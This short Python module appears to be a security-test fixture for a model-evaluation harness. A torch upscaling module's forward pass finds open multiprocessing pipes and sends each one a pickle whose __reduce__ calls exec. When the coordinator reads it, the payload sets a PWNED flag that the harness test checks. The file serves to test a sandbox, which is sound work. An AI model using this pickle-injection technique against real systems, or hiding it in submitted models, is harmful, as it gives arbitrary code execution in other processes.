"""An attack: finds its worker's pipe and sends the coordinator a pickle that runs code when read.

The payload calls ``exec`` in whichever process unpickles it, and sets ``PWNED`` in the
coordinator's ``harness.runner.messages`` module: the test looks for it there.
"""

import gc
from multiprocessing.connection import Connection

import torch
from torch import nn

PAYLOAD = "import harness.runner.messages as m; m.PWNED = True"


class _RunsCode:
    def __reduce__(self):
        return exec, (PAYLOAD,)


def _pipes() -> list[Connection]:
    return [thing for thing in gc.get_objects() if isinstance(thing, Connection) and not thing.closed]


class PickleReply(nn.Module):
    def forward(self, x: torch.Tensor) -> torch.Tensor:
        import pickle

        for pipe in _pipes():
            pipe.send_bytes(pickle.dumps(_RunsCode()))
        return torch.nn.functional.interpolate(x, scale_factor=4, mode="nearest")
